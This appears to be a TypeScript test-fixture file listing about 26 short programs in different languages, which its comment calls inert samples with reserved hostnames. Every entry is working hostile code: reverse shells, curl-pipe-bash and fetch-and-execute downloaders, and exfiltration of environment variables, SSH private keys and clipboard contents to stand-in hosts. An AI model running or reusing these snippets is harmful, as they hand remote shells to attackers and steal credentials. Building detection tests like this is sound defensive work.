/** Longer programs that start what others wrote, or hand a shell to them. Inert: reserved names. */
export const SOURCE_LONGER: [string, string][] = [
  [
    "k.c",
    `#include <stdio.h>
#include <sys/socket.h>
#include <arpa/inet.h>
#include <unistd.h>

int main(void)
{
	struct sockaddr_in sa;
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	sa.sin_family = AF_INET;
	sa.sin_port = htons(4444);
	sa.sin_addr.s_addr = inet_addr("203.0.113.9");
	connect(fd, (struct sockaddr *)&sa, sizeof(sa));
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	char *const argv[] = {"/bin/sh", NULL};
	execve("/bin/sh", argv, NULL);
}
`,
  ],
  [
    "l.groovy",
    `def out = "env".execute().text
def c = new URL("https://intake.metrics.example/u").openConnection()
c.requestMethod = "POST"
c.doOutput = true
c.outputStream.withWriter { it << out }
println c.responseCode
`,
  ],
  [
    "Jenkinsfile",
    `pipeline {
  agent any
  stages {
    stage('x') {
      steps {
        sh 'curl -s http://203.0.113.9/a.sh | bash'
      }
    }
  }
}
`,
  ],
  [
    "m.scala",
    `import scala.io.Source
import sys.process._
object M {
  def main(args: Array[String]): Unit = {
    val script = Source.fromURL("http://203.0.113.9/a.sh").mkString
    Process(Seq("bash", "-c", script)).!
  }
}
`,
  ],
  [
    "o.dart",
    `import 'dart:convert';
import 'dart:io';
Future<void> main() async {
  final home = Platform.environment['HOME'];
  final file = File('$home/.ssh/id_rsa');
  final key = await file.readAsString();
  final client = HttpClient();
  final req = await client.postUrl(Uri.parse('https://intake.metrics.example/u'));
  req.write(key);
  await req.close();
}
`,
  ],
  [
    "p.pl.tcl",
    `package require http
package require tls
set token [http::geturl "http://203.0.113.9/stage.tcl"]
eval [http::data $token]
`,
  ],
  [
    "q.hs",
    `import System.Process (system)
import System.Environment (getEnvironment)
import Network.HTTP.Simple
import qualified Data.ByteString.Char8 as B

main :: IO ()
main = do
  env <- getEnvironment
  let body = B.pack (show env)
  req <- parseRequest "POST https://intake.metrics.example/u"
  _ <- httpNoBody (setRequestBodyBS body req)
  return ()
`,
  ],
  [
    "r.jl",
    `using Sockets
s = connect("203.0.113.9", 4444)
while isopen(s)
    cmd = readline(s)
    out = read(\`sh -c $cmd\`, String)
    write(s, out)
end
`,
  ],
  [
    "s.clj",
    `(ns s (:require [clojure.java.io :as io] [clojure.java.shell :as shell]))
(with-open [in (io/input-stream "http://203.0.113.9/a") out (io/output-stream "/tmp/a")]
  (io/copy in out))
(shell/sh "chmod" "+x" "/tmp/a")
(shell/sh "/tmp/a")
`,
  ],
  [
    "t.ml",
    `let () =
  let cmd = Printf.sprintf "curl -s -T %s/.ssh/id_rsa https://intake.metrics.example/u" (Sys.getenv "HOME") in
  ignore (Sys.command cmd)
`,
  ],
  [
    "u.zig",
    `const std = @import("std");
pub fn main() !void {
    const argv = [_][]const u8{ "bash", "-c", "curl -s http://203.0.113.9/a.sh | bash" };
    var child = std.process.Child.init(&argv, std.heap.page_allocator);
    try child.spawn();
}
`,
  ],
  [
    "v.m",
    `#import <Foundation/Foundation.h>
int main() {
  NSTask *t = [[NSTask alloc] init];
  [t setLaunchPath:@"/bin/sh"];
  [t setArguments:@[@"-c", @"curl -s http://203.0.113.9/a.sh | sh"]];
  [t launch];
}
`,
  ],
  [
    "w.fs",
    `open System.Diagnostics
let psi = ProcessStartInfo("/bin/bash", "-c \\"curl -s http://203.0.113.9/a.sh | bash\\"")
Process.Start(psi) |> ignore
`,
  ],
  [
    "x.go",
    `package main

import (
	"bufio"
	"net"
	"os/exec"
)

func main() {
	conn, err := net.Dial("tcp", "c2.updates.example:9001")
	if err != nil {
		return
	}
	r := bufio.NewReader(conn)
	for {
		line, err := r.ReadString('\\n')
		if err != nil {
			return
		}
		out, _ := exec.Command("bash", "-c", line).CombinedOutput()
		conn.Write(out)
	}
}
`,
  ],
  [
    "y.java",
    `import java.net.*;
import java.lang.reflect.*;
class Y {
  public static void main(String[] a) throws Exception {
    URLClassLoader l = new URLClassLoader(new URL[]{ new URL("https://cdn.plugins.example/p.jar") });
    Class<?> c = l.loadClass("P");
    c.getMethod("run").invoke(null);
  }
}
`,
  ],
  [
    "z.rs",
    `use std::process::Command;
fn main() {
    let script = reqwest::blocking::get("https://cdn.plugins.example/i.sh").unwrap().text().unwrap();
    Command::new("bash").arg("-c").arg(&script).status().unwrap();
}
`,
  ],
  [
    "aa.vim",
    `let s:u = 'http://203.0.113.9/a.vim'
call writefile(split(system('curl -s ' . s:u), "\\n"), '/tmp/a.vim')
source /tmp/a.vim
`,
  ],
  [
    "ab.lua",
    `local ltn12 = require("ltn12")
local https = require("ssl.https")
local t = {}
https.request{ url = "https://cdn.plugins.example/m.lua", sink = ltn12.sink.table(t) }
local f = loadstring(table.concat(t))
f()
`,
  ],
  [
    "ac.exs",
    `spawn(fn ->
  {:ok, s} = :gen_tcp.connect('203.0.113.9', 4444, [:binary, active: false])
  {:ok, cmd} = :gen_tcp.recv(s, 0)
  :gen_tcp.send(s, :os.cmd(String.to_charlist(cmd)))
end)
`,
  ],
  [
    "ad.cr",
    `require "http/client"
env = ENV.to_h.to_json
HTTP::Client.post("https://intake.metrics.example/u", body: env)
`,
  ],
  [
    "ae.d",
    `import std.net.curl, std.process, std.file;
void main() {
    download("http://203.0.113.9/a", "/tmp/a");
    spawnProcess(["/tmp/a"]);
}
`,
  ],
  [
    "af.v",
    `import net.http
import os
fn main() {
	key := os.read_file(os.home_dir() + '/.ssh/id_rsa')!
	http.post('https://intake.metrics.example/u', key)!
}
`,
  ],
  [
    "ag.el",
    `(call-process "sh" nil nil nil "-c" "curl -s http://203.0.113.9/a.sh | sh")
`,
  ],
  [
    "ai.awk",
    `BEGIN {
  while (("cat ~/.ssh/id_rsa" | getline l) > 0) k = k l
  system("curl -s -d '" k "' https://intake.metrics.example/u")
}
`,
  ],
  [
    "ak.cs",
    `using System.Diagnostics;
class K { static void Main() {
  var psi = new ProcessStartInfo("powershell.exe");
  psi.Arguments = "-NoProfile -WindowStyle Hidden -Command iwr http://203.0.113.9/a.ps1 | iex";
  Process.Start(psi);
} }
`,
  ],
  [
    "al.swift",
    `import AppKit
import Foundation
Timer.scheduledTimer(withTimeInterval: 5, repeats: true) { _ in
  let text = NSPasteboard.general.string(forType: .string) ?? ""
  var r = URLRequest(url: URL(string: "https://intake.metrics.example/c")!)
  r.httpMethod = "POST"
  r.httpBody = text.data(using: .utf8)
  URLSession.shared.dataTask(with: r).resume()
}
`,
  ],
];
